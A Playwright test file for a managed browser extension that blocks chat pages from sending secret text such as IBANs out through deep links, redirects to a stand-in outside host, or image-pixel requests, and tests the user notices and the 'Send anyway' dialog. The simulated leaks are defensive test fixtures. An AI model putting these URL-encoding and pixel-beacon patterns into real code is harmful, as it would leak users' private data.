/** Addresses that carry what must not leave, force-installed: what is stopped, what the user sees, and what passes. */
import { readFileSync } from "node:fs";
import { AxeBuilder } from "@axe-core/playwright";
import type { Page } from "@playwright/test";
import { OTHER_IBAN } from "../../scripts/tour/values";
import { entriesHolding } from "../pages/chat/received";
import { freshRun, secretOf, textWith } from "../pages/hostile/secret";
import { CHATGPT, CHATGPT_COMPOSER, composerText, typeText } from "../support/chat-page";
import { pressControl, surfaces, waitForDialog } from "../support/dialog";
import { killWorker, waitForOrganisation } from "../support/extension";
import { expect, test } from "../support/fixtures";
import { pause, waitFor } from "../support/wait-for";

const POLICY = readFileSync("scripts/tour/northgate.policy.json", "utf8");
const ELSEWHERE = "https://elsewhere.example/hostile/files/blank.html";
const SETTLE_MS = 800;

test.use({
  keepBrowser: true,
  install: "forced",
  managed: { tenant: "northgate", policy: POLICY },
});

let run: string;
let text: string;
test.beforeEach(async ({ context, extensionId }) => {
  run = freshRun();
  text = textWith(secretOf(run));
  await waitForOrganisation(context, extensionId, "Northgate");
});

test("a deep link is not opened: a page says why and keeps the words", async ({ page, chat }) => {
  await page.goto(ELSEWHERE);
  const link = `${CHATGPT}?q=${encodeURIComponent(text)}`;
  await page.goto(link).catch(() => undefined); // the driver hears that it was given up
  await waitFor("the page that says why", () => page.url().endsWith("/stopped.html"));
  await waitFor("its words", async () => /IBAN/u.test(await page.locator("body").innerText()));
  expect(await page.locator("textarea").inputValue()).toBe(text);
  for (const colorScheme of ["light", "dark"] as const) {
    await page.emulateMedia({ colorScheme });
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
  }
  await page.setViewportSize({ width: 320, height: 640 });
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
  expect(chat.witness.arrived(run)).toBeNull();
  await page.getByRole("button", { name: "Go back" }).click();
  await waitFor("the page before", () => page.url() === ELSEWHERE);
});

test("a chat stays with what was written when it tries to go away with it", async ({
  page,
  chat,
}) => {
  await page.goto(CHATGPT);
  await typeText(page, "A half-written question", CHATGPT_COMPOSER);
  await page.evaluate((words) => {
    location.href = `https://elsewhere.example/p?q=${encodeURIComponent(words)}`;
  }, text);
  await noticed(page, /was not opened/u);
  await pause(SETTLE_MS);
  expect(page.url()).toBe(CHATGPT);
  expect(await composerText(page)).toContain("A half-written question");
  expect(chat.witness.arrived(run)).toBeNull();
});

test("nothing gets out while the background wakes, and a picture without findings loads", async ({
  page,
  chat,
  context,
  extensionId,
}) => {
  await page.goto(CHATGPT);
  await killWorker(context, extensionId);
  await page.evaluate((words) => {
    new Image().src = `/pixel?q=${encodeURIComponent(words)}`;
  }, text);
  await noticed(page, /load something.*was stopped/u);
  expect(chat.witness.arrived(run)).toBeNull();
  await page.evaluate((words) => {
    new Image().src = `/pixel?q=${encodeURIComponent(words)}`;
  }, "a plain question about whales");
  await waitFor("it to arrive", () => entriesHolding(chat.received(), "about whales").length > 0);
});

test.describe("what the user lets go in the dialog", () => {
  const policy = JSON.parse(POLICY) as { rules: { id: string }[] };
  const rules = policy.rules.map((rule) =>
    rule.id === "accounts" ? { ...rule, action: "warn", reason: "none" } : rule,
  );
  test.use({ managed: { tenant: "northgate", policy: JSON.stringify({ ...policy, rules }) } });

  test("passes as an address, once", async ({ page, chat }) => {
    await page.bringToFront();
    await page.goto(CHATGPT);
    const address = `/search?q=${encodeURIComponent(`Is ${OTHER_IBAN} the right account?`)}`;
    const arrived = () => entriesHolding(chat.received(), OTHER_IBAN).length;
    const status = page.evaluate(async (url) => (await fetch(url)).status, address);
    await waitForDialog(page);
    expect(arrived()).toBe(0);
    await pressControl(page, /^Send (?:anyway|as it is)/u);
    expect(await status).toBe(404);
    expect(arrived()).toBe(1);
    await page.evaluate((url) => {
      new Image().src = url;
    }, address);
    await noticed(page, /load something.*was stopped/u);
    await pause(SETTLE_MS);
    expect(arrived()).toBe(1);
  });
});

async function noticed(page: Page, words: RegExp): Promise<void> {
  await waitFor("the notice", async () =>
    (await surfaces(page)).some(({ name }) => words.test(JSON.stringify(name))),
  );
}
